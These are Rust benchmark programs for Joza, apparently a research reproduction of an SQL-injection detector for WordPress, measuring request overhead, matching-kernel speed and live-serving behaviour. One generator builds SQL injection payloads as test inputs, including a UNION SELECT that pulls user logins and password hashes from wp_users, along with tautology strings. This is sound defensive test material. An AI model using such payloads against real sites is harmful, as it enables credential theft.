    if args.min_speedup > 0.0 && render_speedup < args.min_speedup {
        eprintln!(
            "FAIL: vm/tree-walk render-route speedup {render_speedup:.2}x is below the \
             --min-speedup floor {:.2}x",
            args.min_speedup
        );
        std::process::exit(1);
    }
    if args.min_speedup > 0.0 {
        println!(
            "min-speedup floor ok: {render_speedup:.2}x >= {:.2}x (engine-bound render routes)",
            args.min_speedup
        );
    }
}
