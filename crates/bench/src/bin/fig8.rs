//! Figure 8: read / write / search request times with and without Joza,
//! with the NTI/PTI split.

use joza_bench::report::{pct, render_table};
use joza_bench::workload::{
    crawl_requests, measure_steady_gen, measure_type, measure_type_gen, search_requests,
    write_requests_pass, Setup,
};
use rand::rngs::StdRng;
use rand::SeedableRng;

fn main() {
    let n = std::env::args().nth(1).and_then(|a| a.parse().ok()).unwrap_or(120);
    let mut rng = StdRng::seed_from_u64(42);

    println!("FIGURE 8: Request times with and without Joza\n");
    let mut rows = Vec::new();

    // Writes carry fresh content per pass; reads and searches replay.
    let write_gen = |p: usize| write_requests_pass(n / 3, p);
    let write_plain = measure_steady_gen(None, 3, write_gen);
    let write_t = measure_type_gen(Setup::DaemonFullCache, 3, write_gen, &write_plain);

    let workloads = [
        ("read (site crawl)", crawl_requests(n)),
        ("search (random terms)", search_requests(n / 3, &mut rng)),
    ];
    let mut typed = vec![("write (random comments)", write_t)];
    for (label, reqs) in &workloads {
        typed.push((label, measure_type(reqs, Setup::DaemonFullCache, 3)));
    }
    typed.sort_by_key(|(l, _)| match *l {
        "read (site crawl)" => 0,
        "write (random comments)" => 1,
        _ => 2,
    });
    for (label, t) in &typed {
        let t = *t;
        rows.push(vec![
            (*label).to_string(),
            format!("{:?}", t.plain),
            format!("{:?}", t.protected),
            format!("{:?}", t.nti),
            format!("{:?}", t.pti),
            pct(t.overhead),
        ]);
    }
    println!(
        "{}",
        render_table(
            &["Workload", "Plain", "With Joza", "NTI time", "PTI time", "Overhead"],
            &rows
        )
    );
    println!("(paper's shape: writes are by far the costliest to protect; reads are a few");
    println!(" percent; searches issue few queries and are cheapest. PTI is amortized by");
    println!(" caching on reads/searches and dominates on writes; NTI cost tracks input size.)");
}
