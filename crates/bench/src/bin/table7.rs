//! Table VII: Wordpress.com workload statistics and the predicted
//! deployment overhead.

use joza_bench::report::{pct, render_table};
use joza_bench::workload::{
    crawl_requests, measure_steady_gen, measure_type, measure_type_gen, write_requests_pass, Setup,
};
use joza_bench::wpcom::five_year_average;

fn main() {
    let s = five_year_average();
    println!("TABLE VII: Wordpress.com workload statistics (annual averages, millions)\n");
    let rows = vec![
        vec!["New blog posts".to_string(), format!("{:.0}", s.posts_m)],
        vec!["New pages".to_string(), format!("{:.0}", s.pages_m)],
        vec!["New comments".to_string(), format!("{:.0}", s.comments_m)],
        vec!["RPC posts".to_string(), format!("{:.0}", s.rpc_posts_m)],
        vec!["Page views".to_string(), format!("{:.0}", s.pageviews_m)],
        vec!["Write requests total".to_string(), format!("{:.0}", s.writes_m())],
        vec!["Write fraction".to_string(), pct(s.write_fraction())],
    ];
    println!("{}", render_table(&["Statistic", "Value (M/yr)"], &rows));

    // Predicted overhead from measured read/write overheads.
    let reads = crawl_requests(150);
    let r = measure_type(&reads, Setup::DaemonFullCache, 5);
    let write_gen = |p: usize| write_requests_pass(50, p);
    let write_plain = measure_steady_gen(None, 5, write_gen);
    let w = measure_type_gen(Setup::DaemonFullCache, 5, write_gen, &write_plain);
    let predicted = s.expected_overhead(r.overhead, w.overhead);
    println!("measured read overhead:  {}", pct(r.overhead));
    println!("measured write overhead: {}", pct(w.overhead));
    println!("predicted wordpress.com overhead: {} (paper: <4%)", pct(predicted));
}
