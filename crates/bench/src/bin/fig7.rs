//! Figure 7: PTI per-request time breakdown, unoptimized vs. optimized
//! daemon.
//!
//! The paper reports that running PTI as a reusable daemon with the MRU
//! fragment cache and parse-first token matching cuts PTI processing time
//! by ~66% on a WordPress read request.

use joza_bench::report::{pct, render_table};
use joza_bench::workload::{crawl_requests, measure_steady, Setup};

fn main() {
    let n = std::env::args().nth(1).and_then(|a| a.parse().ok()).unwrap_or(60);
    let reads = crawl_requests(n);

    println!("FIGURE 7: PTI time breakdown for WordPress read requests\n");
    let plain = measure_steady(&reads, None, 3);
    let unopt = measure_steady(&reads, Some(Setup::Unoptimized), 3);
    let opt = measure_steady(&reads, Some(Setup::DaemonNoCache), 3);

    let base = plain.per_request();
    let mut rows = Vec::new();
    for (label, s) in [("unoptimized", &unopt), ("optimized daemon", &opt)] {
        let pti = s.pti_time / s.requests as u32;
        let nti = s.nti_time / s.requests as u32;
        let rest = s.per_request().saturating_sub(pti).saturating_sub(nti);
        rows.push(vec![
            label.to_string(),
            format!("{:?}", s.per_request()),
            format!("{pti:?}"),
            format!("{nti:?}"),
            format!("{rest:?}"),
        ]);
    }
    println!("{}", render_table(&["Configuration", "Request total", "PTI", "NTI", "Rest"], &rows));
    println!("plain (unprotected) request: {base:?}");

    let unopt_pti = unopt.pti_time.as_secs_f64() / unopt.requests as f64;
    let opt_pti = opt.pti_time.as_secs_f64() / opt.requests as f64;
    let reduction = 1.0 - opt_pti / unopt_pti;
    println!("\nPTI processing reduction from optimizations: {} (paper: ~66%)", pct(reduction));
}
