//! NTI matching-kernel benchmark: Classic (Sellers) vs BitParallel
//! (Myers/Hyyrö) analyze-throughput and gate latency.
//!
//! NTI is the per-request hot path: every (input, query) pair that
//! survives the prefilters pays a full semi-global alignment. The classic
//! Sellers DP costs `O(|input|·|query|)` scalar cell updates; the
//! bit-parallel kernel packs 64 DP rows per word and carries the
//! threshold cutoff, so long queries — where the Sellers cost dominates
//! gate latency — are where it pays off.
//!
//! Two workloads:
//!
//! * **short** — the lab corpus: every plugin served with its exploit
//!   payload and its benign value (ungated), yielding the real
//!   (inputs, query) pairs the gate sees on WordPress-style plugin
//!   queries (tens to a few hundred bytes).
//! * **long** — payload-like inputs (including multi-word inputs longer
//!   than 64 bytes) embedded with realistic app transformations in
//!   multi-kilobyte queries (large `IN`-lists), the regime the paper's
//!   §VI-B optimizations target.
//!
//! For each workload × kernel the benchmark measures analyze-calls/sec on
//! the raw [`NtiAnalyzer`] and p50/p99 per-query check latency through an
//! NTI-only [`Joza`] engine. Before timing anything it asserts that both
//! kernels produce **identical full reports** (markings, spans,
//! distances, tainted criticals) on every pair of both workloads — the
//! bit-parallel kernel is a pure optimization.
//!
//! Usage:
//!
//! ```text
//! nti_kernel [--iters N] [--long-pairs N] [--out results/BENCH_nti_kernel.json]
//! ```

use joza_bench::report::{provenance_json, render_table};
use joza_core::{Joza, JozaConfig};
use joza_lab::build_lab;
use joza_lab::verify::request_for;
use joza_nti::{MatchKernel, NtiAnalyzer, NtiConfig, NtiReport};
use std::time::{Duration, Instant};

#[derive(Debug)]
struct Args {
    iters: usize,
    long_pairs: usize,
    out: String,
}

fn parse_args() -> Args {
    let mut args =
        Args { iters: 30, long_pairs: 48, out: "results/BENCH_nti_kernel.json".to_string() };
    let mut it = std::env::args().skip(1);
    while let Some(flag) = it.next() {
        let mut value = || it.next().unwrap_or_else(|| panic!("{flag} needs a value"));
        match flag.as_str() {
            "--iters" => args.iters = value().parse().expect("--iters"),
            "--long-pairs" => args.long_pairs = value().parse().expect("--long-pairs"),
            "--out" => args.out = value(),
            other => panic!("unknown flag {other}"),
        }
    }
    assert!(args.iters > 0, "--iters must be positive");
    args
}

/// One (captured inputs, intercepted query) pair — the unit of NTI work.
type Pair = (Vec<String>, String);

/// The short workload: the entire lab corpus, served ungated. Every
/// plugin contributes its exploit request and its benign request; each
/// intercepted query becomes one pair with that request's raw inputs.
fn corpus_pairs() -> Vec<Pair> {
    let mut lab = build_lab();
    let plugins = lab.plugins.clone();
    let mut pairs = Vec::new();
    for p in &plugins {
        for payload in [p.exploit.primary_payload().to_string(), p.benign_value.clone()] {
            let req = request_for(p, &payload);
            let inputs: Vec<String> = req.all_inputs().into_iter().map(|(_, _, v)| v).collect();
            let resp = lab.server.handle(&req);
            for q in resp.queries {
                pairs.push((inputs.clone(), q));
            }
        }
    }
    pairs
}

/// The long workload: payload-like inputs embedded (after an app
/// transformation) in multi-kilobyte queries. Input lengths cycle through
/// the single-word and multi-word kernel regimes. Each query carries
/// *three* embedded inputs (the payload plus a search term and a slug —
/// real requests interpolate several parameters into one query), and
/// every fourth pair lands its payload in a numeric (unquoted) context —
/// the classic WordPress-plugin injection point — so the workload carries
/// genuine attack verdicts, not just markings.
fn long_pairs(n: usize) -> Vec<Pair> {
    (0..n)
        .map(|i| {
            let quoted = i % 4 != 0;
            let payload = match i % 4 {
                0 => format!("-{} OR {}={} -- probe", i + 1, 1 + i % 9, 1 + i % 9),
                1 => format!(
                    "-1 UNION SELECT user_login, user_pass, {} FROM wp_users WHERE id={} LIMIT 1",
                    1000 + i,
                    1 + i % 7
                ),
                2 => format!("' OR '{0}'='{0}' /*{1}*/ -- -", i % 13, "x".repeat(12 + i % 9)),
                _ => format!("category-{}-with-a-perfectly-benign-slug-{}", i % 5, i),
            };
            let search = format!("annual budget overview {} quarterly report", 2000 + i % 30);
            let slug = format!("widget-area-{}-sidebar-position-{}-theme-default", i % 9, i % 4);
            // The app lowercases and escapes quotes before interpolation.
            let embedded = payload.to_lowercase().replace('\'', "\\'");
            let author_clause = if quoted {
                format!("p.post_author='{embedded}'")
            } else {
                format!("p.post_author={embedded}")
            };
            let in_list: Vec<String> =
                (0..380).map(|j| (100_000 + (i * 380 + j) % 900_000).to_string()).collect();
            let query = format!(
                "SELECT p.ID, p.post_title, p.post_date FROM wp_posts p \
                 JOIN wp_term_relationships tr ON tr.object_id = p.ID \
                 WHERE p.ID IN ({}) AND {} AND p.post_title LIKE '%{}%' \
                 AND p.post_name <> '{}' AND p.post_status='publish' \
                 ORDER BY p.post_date DESC LIMIT 50",
                in_list.join(","),
                author_clause,
                search,
                slug
            );
            let inputs = vec![
                format!("{}", 1 + i % 37),
                format!("sess-{:08x}", (i as u64).wrapping_mul(2_654_435_761)),
                payload,
                search,
                slug,
            ];
            (inputs, query)
        })
        .collect()
}

fn analyzer(kernel: MatchKernel) -> NtiAnalyzer {
    NtiAnalyzer::new(NtiConfig { kernel, ..NtiConfig::default() })
}

fn analyze_all(nti: &NtiAnalyzer, pairs: &[Pair]) -> Vec<NtiReport> {
    pairs
        .iter()
        .map(|(inputs, query)| {
            let refs: Vec<&str> = inputs.iter().map(String::as_str).collect();
            nti.analyze(&refs, query)
        })
        .collect()
}

/// Analyze-calls per second over `iters` passes of the workload.
fn throughput(nti: &NtiAnalyzer, pairs: &[Pair], iters: usize) -> f64 {
    let started = Instant::now();
    let mut markings = 0usize;
    for _ in 0..iters {
        for (inputs, query) in pairs {
            let refs: Vec<&str> = inputs.iter().map(String::as_str).collect();
            markings += std::hint::black_box(nti.analyze(&refs, query)).markings.len();
        }
    }
    let secs = started.elapsed().as_secs_f64();
    std::hint::black_box(markings);
    if secs > 0.0 {
        (pairs.len() * iters) as f64 / secs
    } else {
        0.0
    }
}

/// Per-query check latency through an NTI-only engine (one session per
/// pair: capture the inputs, time the check).
fn gate_latencies(kernel: MatchKernel, pairs: &[Pair]) -> Vec<Duration> {
    let mut cfg = JozaConfig::nti_only();
    cfg.nti.kernel = kernel;
    let joza = Joza::builder().config(cfg).build();
    let mut times: Vec<Duration> = pairs
        .iter()
        .map(|(inputs, query)| {
            let mut session = joza.session();
            for (i, v) in inputs.iter().enumerate() {
                session.capture_input(&format!("in{i}"), v);
            }
            let started = Instant::now();
            let verdict = session.check(query);
            let elapsed = started.elapsed();
            std::hint::black_box(verdict);
            elapsed
        })
        .collect();
    times.sort();
    times
}

fn percentile(sorted: &[Duration], p: f64) -> Duration {
    if sorted.is_empty() {
        return Duration::ZERO;
    }
    let idx = ((sorted.len() - 1) as f64 * p).round() as usize;
    sorted[idx]
}

#[derive(Debug)]
struct KernelCell {
    kernel: MatchKernel,
    analyses_per_sec: f64,
    gate_p50: Duration,
    gate_p99: Duration,
}

fn measure_workload(name: &str, pairs: &[Pair], iters: usize) -> (Vec<KernelCell>, f64) {
    // Identity first: the kernels must agree on every full report before
    // any number is worth printing.
    let classic_reports = analyze_all(&analyzer(MatchKernel::Classic), pairs);
    let fast_reports = analyze_all(&analyzer(MatchKernel::BitParallel), pairs);
    assert_eq!(
        classic_reports, fast_reports,
        "{name}: kernel reports diverged — BitParallel must be bit-identical"
    );
    let attacks = classic_reports.iter().filter(|r| r.is_attack()).count();

    let cells: Vec<KernelCell> = [MatchKernel::Classic, MatchKernel::BitParallel]
        .into_iter()
        .map(|kernel| {
            let nti = analyzer(kernel);
            let analyses_per_sec = throughput(&nti, pairs, iters);
            let lat = gate_latencies(kernel, pairs);
            KernelCell {
                kernel,
                analyses_per_sec,
                gate_p50: percentile(&lat, 0.50),
                gate_p99: percentile(&lat, 0.99),
            }
        })
        .collect();
    let speedup = if cells[0].analyses_per_sec > 0.0 {
        cells[1].analyses_per_sec / cells[0].analyses_per_sec
    } else {
        0.0
    };

    let rows: Vec<Vec<String>> = cells
        .iter()
        .map(|c| {
            vec![
                c.kernel.to_string(),
                format!("{:.0}", c.analyses_per_sec),
                format!("{:?}", c.gate_p50),
                format!("{:?}", c.gate_p99),
            ]
        })
        .collect();
    println!(
        "\n== {name} workload ({} pairs, {} attacks, reports identical) ==",
        pairs.len(),
        attacks
    );
    println!("{}", render_table(&["Kernel", "Analyses/s", "Gate p50", "Gate p99"], &rows));
    println!("bit-parallel speedup: {speedup:.2}x");
    (cells, speedup)
}

fn json_workload(name: &str, pairs: usize, cells: &[KernelCell], speedup: f64) -> String {
    let kernels = cells
        .iter()
        .map(|c| {
            format!(
                "        {{\"kernel\": \"{}\", \"analyses_per_sec\": {:.1}, \
                 \"gate_p50_us\": {}, \"gate_p99_us\": {}}}",
                c.kernel,
                c.analyses_per_sec,
                c.gate_p50.as_micros(),
                c.gate_p99.as_micros()
            )
        })
        .collect::<Vec<_>>()
        .join(",\n");
    format!(
        "    {{\"workload\": \"{name}\", \"pairs\": {pairs}, \"reports_identical\": true, \
         \"speedup\": {speedup:.2}, \"kernels\": [\n{kernels}\n    ]}}"
    )
}

fn main() {
    let args = parse_args();
    println!(
        "nti_kernel: {} iters, {} synthetic long pairs, default threshold {}",
        args.iters,
        args.long_pairs,
        NtiConfig::default().threshold
    );

    let short = corpus_pairs();
    let long = long_pairs(args.long_pairs);
    let (short_cells, short_speedup) = measure_workload("short", &short, args.iters);
    let (long_cells, long_speedup) = measure_workload("long", &long, args.iters);

    let json = format!(
        "{{\n  \"benchmark\": \"nti_kernel\",\n  \"provenance\": {},\n  \"iters\": {},\n  \
         \"corpus_verdicts_identical\": true,\n  \"workloads\": [\n{},\n{}\n  ]\n}}\n",
        provenance_json(&format!("{}+{}", MatchKernel::Classic, MatchKernel::BitParallel)),
        args.iters,
        json_workload("short", short.len(), &short_cells, short_speedup),
        json_workload("long", long.len(), &long_cells, long_speedup),
    );
    if let Some(dir) = std::path::Path::new(&args.out).parent() {
        std::fs::create_dir_all(dir).expect("create output directory");
    }
    std::fs::write(&args.out, &json).expect("write nti_kernel results");
    println!("wrote {}", args.out);
}
