//! Table I: classification of WP-SQLI-LAB attack types.

use joza_bench::report::render_table;
use joza_lab::corpus::{corpus, AttackType};

fn main() {
    let plugins = corpus();
    let count = |t: AttackType| plugins.iter().filter(|p| p.attack_type == t).count();
    let rows = vec![
        vec!["Union Based".to_string(), count(AttackType::UnionBased).to_string()],
        vec!["Standard Blind".to_string(), count(AttackType::StandardBlind).to_string()],
        vec!["Double Blind".to_string(), count(AttackType::DoubleBlind).to_string()],
        vec!["Tautology".to_string(), count(AttackType::Tautology).to_string()],
    ];
    println!("TABLE I: Classification of WP-SQLI-LAB attack types\n");
    println!("{}", render_table(&["Attack Type", "NO. of Plugins"], &rows));
    println!("(paper: 15 / 17 / 14 / 4)");
}
