//! Live-traffic serving demo: the batch-first gate API under realistic
//! load, with a model release rolled out and rolled back mid-run.
//!
//! Where `scaling` sweeps thread counts for the results file, this bin
//! tells the deployment story end to end on one run: many concurrent
//! sessions over Zipf-distributed routes with attack bursts, all checked
//! through `JozaSession::check_batch` against a shared engine, while a
//! deployer thread hot-swaps the statically inferred query models in
//! (generation 1) and back out (generation 2) under that live traffic.
//! It prints throughput, batch-latency percentiles, the verdict split,
//! the generations each worker observed, and verifies on exit that no
//! query was dropped or double-counted across the swaps and that every
//! verdict matched the workload's ground truth.
//!
//! Usage:
//!
//! ```text
//! serve_live [--requests N] [--batch B] [--threads T] [--routes R]
//!            [--pipe-latency-us US] [--seed S] [--soak N]
//! ```
//!
//! `--soak N` adds a long-haul phase after the deployment demo: the
//! corpus is served repeatedly (no further deploys) until N requests
//! have been checked — sized for millions — reporting *steady-state*
//! batch-latency percentiles (first 10% of passes discarded as warmup)
//! and enforcing two invariants on every pass: the verdict split is
//! identical pass over pass (the engine does not drift under sustained
//! load), and the engine's query counter advances by exactly the
//! corpus's query count (nothing dropped or double-counted).

use joza_bench::report::{git_rev, render_table};
use joza_core::{Joza, JozaConfig, ModelUpdate};
use joza_lab::serve_live::{
    live_corpus, live_engine, live_testbed, serve_live_deploying, LiveWorkload,
};
use std::time::Duration;

#[derive(Debug)]
struct Args {
    requests: usize,
    batch: usize,
    threads: usize,
    routes: usize,
    pipe_latency: Duration,
    seed: u64,
    soak: usize,
}

fn parse_args() -> Args {
    let mut args = Args {
        requests: 96,
        batch: 4,
        threads: 8,
        routes: 24,
        pipe_latency: Duration::from_micros(400),
        seed: 0x4a5a,
        soak: 0,
    };
    let mut it = std::env::args().skip(1);
    while let Some(flag) = it.next() {
        let mut value = || it.next().unwrap_or_else(|| panic!("{flag} needs a value"));
        match flag.as_str() {
            "--requests" => args.requests = value().parse().expect("--requests"),
            "--batch" => args.batch = value().parse().expect("--batch"),
            "--threads" => args.threads = value().parse().expect("--threads"),
            "--routes" => args.routes = value().parse().expect("--routes"),
            "--pipe-latency-us" => {
                args.pipe_latency =
                    Duration::from_micros(value().parse().expect("--pipe-latency-us"));
            }
            "--seed" => args.seed = value().parse().expect("--seed"),
            "--soak" => args.soak = value().parse().expect("--soak"),
            other => panic!("unknown flag {other}"),
        }
    }
    args
}

fn main() {
    let args = parse_args();
    let testbed = live_testbed(args.routes);
    let mut config = JozaConfig::optimized();
    config.shards = 16;
    config.pti.pipe_latency = args.pipe_latency;
    // Start model-free: the rollout below is what installs the models.
    let joza = live_engine(&testbed, config, false);
    let corpus = live_corpus(
        &testbed,
        &LiveWorkload {
            requests: args.requests,
            batch: args.batch,
            seed: args.seed,
            ..LiveWorkload::default()
        },
    );

    println!(
        "serve_live @ {}: {} requests x {} queries, {} threads, {} routes, pipe latency {:?}",
        git_rev(),
        args.requests,
        args.batch,
        args.threads,
        args.routes,
        args.pipe_latency
    );
    let report = serve_live_deploying(
        &joza,
        &testbed,
        &corpus,
        args.threads,
        corpus.len() / 2,
        |j: &Joza| {
            j.deploy(ModelUpdate::new().query_models(testbed.models.clone()))
                .expect("mid-run model rollout");
            j.deploy(ModelUpdate::new().clear_query_models()).expect("mid-run rollback");
        },
    );

    let mut blocked = 0usize;
    let mut allowed = 0usize;
    for (req, batch) in corpus.iter().zip(&report.verdicts) {
        for v in batch {
            assert_eq!(v.is_safe(), !req.attack, "verdict diverged from workload ground truth");
            if v.is_safe() {
                allowed += 1;
            } else {
                blocked += 1;
            }
        }
    }
    let stats = joza.stats();
    assert_eq!(stats.queries as usize, report.queries(), "queries dropped across the swap");
    assert_eq!(
        stats.model_fast_hits + stats.static_hits + stats.full_checks,
        stats.queries,
        "path partition broken across the swap"
    );
    assert_eq!(joza.generation(), 2, "rollout + rollback must land at generation 2");

    let rows = vec![
        vec!["requests/s".to_string(), format!("{:.1}", report.requests_per_sec())],
        vec!["checked queries/s".to_string(), format!("{:.1}", report.queries_per_sec())],
        vec!["batch p50".to_string(), format!("{:?}", report.latency_percentile(0.50))],
        vec!["batch p99".to_string(), format!("{:?}", report.latency_percentile(0.99))],
        vec!["benign allowed".to_string(), allowed.to_string()],
        vec!["attacks blocked".to_string(), blocked.to_string()],
        vec![
            "rollout+rollback wall".to_string(),
            format!("{:?}", report.deploy_wall.expect("deploy must have fired")),
        ],
        vec!["final generation".to_string(), joza.generation().to_string()],
        vec!["worker generations".to_string(), format!("{:?}", report.worker_generations)],
        vec!["queries conserved".to_string(), stats.queries.to_string()],
    ];
    println!("\n{}", render_table(&["Metric", "Value"], &rows));
    println!("ok: verdicts matched ground truth; counters conserved across 2 deploys");

    if args.soak > 0 {
        soak(&joza, &testbed, &corpus, &args);
    }
}

/// Long-haul phase: serve the corpus repeatedly until `args.soak`
/// requests have been checked, with steady-state latency percentiles and
/// per-pass invariants (stable verdict split, exact query-counter
/// conservation).
fn soak(
    joza: &Joza,
    testbed: &joza_lab::serve_live::LiveTestbed,
    corpus: &[joza_lab::serve_live::LiveRequest],
    args: &Args,
) {
    use joza_lab::serve_live::serve_live;

    let passes = args.soak.div_ceil(corpus.len()).max(2);
    let corpus_queries: usize = corpus.iter().map(|r| r.checks.len()).sum();
    let warmup = (passes / 10).max(1);
    println!(
        "\nsoak: {} requests = {} passes x {} requests ({} warmup passes discarded)",
        passes * corpus.len(),
        passes,
        corpus.len(),
        warmup
    );

    let mut latencies: Vec<Duration> = Vec::new();
    let mut wall = Duration::ZERO;
    let mut requests = 0usize;
    let mut baseline_split: Option<(usize, usize)> = None;
    for pass in 0..passes {
        let before = joza.stats().queries;
        let report = serve_live(joza, testbed, corpus, args.threads);
        let after = joza.stats().queries;
        assert_eq!(
            (after - before) as usize,
            corpus_queries,
            "soak pass {pass}: query counter did not advance by the corpus size"
        );
        let mut safe = 0usize;
        let mut flagged = 0usize;
        for batch in &report.verdicts {
            for v in batch {
                if v.is_safe() {
                    safe += 1;
                } else {
                    flagged += 1;
                }
            }
        }
        match baseline_split {
            None => baseline_split = Some((safe, flagged)),
            Some(expect) => assert_eq!(
                (safe, flagged),
                expect,
                "soak pass {pass}: verdict split drifted under sustained load"
            ),
        }
        if pass >= warmup {
            latencies.extend_from_slice(&report.request_latencies);
            wall += report.wall;
            requests += corpus.len();
        }
    }

    latencies.sort();
    let pctl = |p: f64| -> Duration {
        let idx = ((latencies.len() - 1) as f64 * p).round() as usize;
        latencies[idx.min(latencies.len() - 1)]
    };
    let (safe, flagged) = baseline_split.expect("at least one soak pass");
    let rows = vec![
        vec!["steady-state requests".to_string(), requests.to_string()],
        vec![
            "steady-state requests/s".to_string(),
            format!("{:.1}", requests as f64 / wall.as_secs_f64().max(f64::EPSILON)),
        ],
        vec!["batch p50".to_string(), format!("{:?}", pctl(0.50))],
        vec!["batch p90".to_string(), format!("{:?}", pctl(0.90))],
        vec!["batch p99".to_string(), format!("{:?}", pctl(0.99))],
        vec!["batch max".to_string(), format!("{:?}", latencies[latencies.len() - 1])],
        vec!["verdict split (safe/flagged)".to_string(), format!("{safe}/{flagged} per pass")],
    ];
    println!("\n{}", render_table(&["Soak metric", "Value"], &rows));
    println!("ok: verdict split stable across all passes; query counters conserved");
}
