//! Live-traffic serving demo: the batch-first gate API under realistic
//! load, with a model release rolled out and rolled back mid-run.
//!
//! Where `scaling` sweeps thread counts for the results file, this bin
//! tells the deployment story end to end on one run: many concurrent
//! sessions over Zipf-distributed routes with attack bursts, all checked
//! through `JozaSession::check_batch` against a shared engine, while a
//! deployer thread hot-swaps the statically inferred query models in
//! (generation 1) and back out (generation 2) under that live traffic.
//! It prints throughput, batch-latency percentiles, the verdict split,
//! the generations each worker observed, and verifies on exit that no
//! query was dropped or double-counted across the swaps and that every
//! verdict matched the workload's ground truth.
//!
//! Usage:
//!
//! ```text
//! serve_live [--requests N] [--batch B] [--threads T] [--routes R]
//!            [--pipe-latency-us US] [--seed S]
//! ```

use joza_bench::report::{git_rev, render_table};
use joza_core::{Joza, JozaConfig, ModelUpdate};
use joza_lab::serve_live::{
    live_corpus, live_engine, live_testbed, serve_live_deploying, LiveWorkload,
};
use std::time::Duration;

#[derive(Debug)]
struct Args {
    requests: usize,
    batch: usize,
    threads: usize,
    routes: usize,
    pipe_latency: Duration,
    seed: u64,
}

fn parse_args() -> Args {
    let mut args = Args {
        requests: 96,
        batch: 4,
        threads: 8,
        routes: 24,
        pipe_latency: Duration::from_micros(400),
        seed: 0x4a5a,
    };
    let mut it = std::env::args().skip(1);
    while let Some(flag) = it.next() {
        let mut value = || it.next().unwrap_or_else(|| panic!("{flag} needs a value"));
        match flag.as_str() {
            "--requests" => args.requests = value().parse().expect("--requests"),
            "--batch" => args.batch = value().parse().expect("--batch"),
            "--threads" => args.threads = value().parse().expect("--threads"),
            "--routes" => args.routes = value().parse().expect("--routes"),
            "--pipe-latency-us" => {
                args.pipe_latency =
                    Duration::from_micros(value().parse().expect("--pipe-latency-us"));
            }
            "--seed" => args.seed = value().parse().expect("--seed"),
            other => panic!("unknown flag {other}"),
        }
    }
    args
}

fn main() {
    let args = parse_args();
    let testbed = live_testbed(args.routes);
    let mut config = JozaConfig::optimized();
    config.shards = 16;
    config.pti.pipe_latency = args.pipe_latency;
    // Start model-free: the rollout below is what installs the models.
    let joza = live_engine(&testbed, config, false);
    let corpus = live_corpus(
        &testbed,
        &LiveWorkload {
            requests: args.requests,
            batch: args.batch,
            seed: args.seed,
            ..LiveWorkload::default()
        },
    );

    println!(
        "serve_live @ {}: {} requests x {} queries, {} threads, {} routes, pipe latency {:?}",
        git_rev(),
        args.requests,
        args.batch,
        args.threads,
        args.routes,
        args.pipe_latency
    );
    let report = serve_live_deploying(
        &joza,
        &testbed,
        &corpus,
        args.threads,
        corpus.len() / 2,
        |j: &Joza| {
            j.deploy(ModelUpdate::new().query_models(testbed.models.clone()))
                .expect("mid-run model rollout");
            j.deploy(ModelUpdate::new().clear_query_models()).expect("mid-run rollback");
        },
    );

    let mut blocked = 0usize;
    let mut allowed = 0usize;
    for (req, batch) in corpus.iter().zip(&report.verdicts) {
        for v in batch {
            assert_eq!(v.is_safe(), !req.attack, "verdict diverged from workload ground truth");
            if v.is_safe() {
                allowed += 1;
            } else {
                blocked += 1;
            }
        }
    }
    let stats = joza.stats();
    assert_eq!(stats.queries as usize, report.queries(), "queries dropped across the swap");
    assert_eq!(
        stats.model_fast_hits + stats.static_hits + stats.full_checks,
        stats.queries,
        "path partition broken across the swap"
    );
    assert_eq!(joza.generation(), 2, "rollout + rollback must land at generation 2");

    let rows = vec![
        vec!["requests/s".to_string(), format!("{:.1}", report.requests_per_sec())],
        vec!["checked queries/s".to_string(), format!("{:.1}", report.queries_per_sec())],
        vec!["batch p50".to_string(), format!("{:?}", report.latency_percentile(0.50))],
        vec!["batch p99".to_string(), format!("{:?}", report.latency_percentile(0.99))],
        vec!["benign allowed".to_string(), allowed.to_string()],
        vec!["attacks blocked".to_string(), blocked.to_string()],
        vec![
            "rollout+rollback wall".to_string(),
            format!("{:?}", report.deploy_wall.expect("deploy must have fired")),
        ],
        vec!["final generation".to_string(), joza.generation().to_string()],
        vec!["worker generations".to_string(), format!("{:?}", report.worker_generations)],
        vec!["queries conserved".to_string(), stats.queries.to_string()],
    ];
    println!("\n{}", render_table(&["Metric", "Value"], &rows));
    println!("ok: verdicts matched ground truth; counters conserved across 2 deploys");
}
