//! Table III: sample fragments extracted from WordPress (and plugins).

use joza_lab::build_lab;
use joza_phpsim::fragments::FragmentSet;

fn main() {
    let lab = build_lab();
    let mut set = FragmentSet::new();
    for src in lab.server.app.all_sources() {
        set.add_source(src);
    }
    println!("TABLE III: Sample fragments in WordPress\n");
    println!("Fragment vocabulary size: {}\n", set.len());

    // The paper's sampled fragments — report whether each is available to
    // an attacker (present verbatim or inside a larger fragment).
    let samples = [
        "UNION", "AND", "OR", "SELECT", "CHAR", "#", "\"", "'", "`", "GROUP BY", "ORDER BY",
        "CAST", "WHERE 1",
    ];
    println!("| {:<10} | {:<9} |", "Fragment", "Available");
    println!("|{}|{}|", "-".repeat(12), "-".repeat(11));
    for s in samples {
        let available = set.iter().any(|f| f.contains(s));
        println!("| {:<10} | {:<9} |", s, if available { "yes" } else { "no" });
    }

    println!("\nShortest 20 fragments (the PTI attack surface):");
    let mut frags: Vec<&str> = set.iter().collect();
    frags.sort_by_key(|f| f.len());
    for f in frags.iter().take(20) {
        println!("  {f:?}");
    }
}
