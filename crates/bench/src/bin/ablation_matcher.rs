//! Ablation: matcher strategy vs workload size, for both components.
//!
//! The paper's PTI optimizations (§VI-A) are the MRU fragment cache and
//! parse-first early exit. The first sweep shows how each strategy's
//! per-query cost scales with the fragment vocabulary — including the
//! Aho–Corasick automaton, our beyond-paper alternative whose matching
//! cost is independent of vocabulary size (at the price of build time and
//! memory).
//!
//! The second sweep is the NTI analogue: the Sellers-classic kernel vs
//! the bit-parallel Myers/Hyyrö kernel as the intercepted query grows —
//! the Fig. 7-style side-by-side across all four matching strategies the
//! engine can run.

use joza_bench::report::render_table;
use joza_lab::wordpress;
use joza_nti::{MatchKernel, NtiAnalyzer, NtiConfig};
use joza_phpsim::fragments::FragmentSet;
use joza_pti::analyzer::{PtiAnalyzer, PtiConfig};
use joza_pti::MatcherKind;
use std::time::{Duration, Instant};

const QUERY: &str = "SELECT option_value FROM wp_options WHERE option_name = 'siteurl' LIMIT 1";

fn fragments(files: usize) -> Vec<String> {
    let mut set = FragmentSet::new();
    for src in wordpress::core_sources() {
        set.add_source(&src);
    }
    for src in wordpress::synthetic_core_sources(files) {
        set.add_source(&src);
    }
    set.iter().map(str::to_string).collect()
}

fn time_analyze(analyzer: &PtiAnalyzer, reps: usize) -> Duration {
    // Warm (MRU ordering, caches inside the matcher).
    let _ = analyzer.analyze(QUERY);
    let t0 = Instant::now();
    for _ in 0..reps {
        let _ = analyzer.analyze(QUERY);
    }
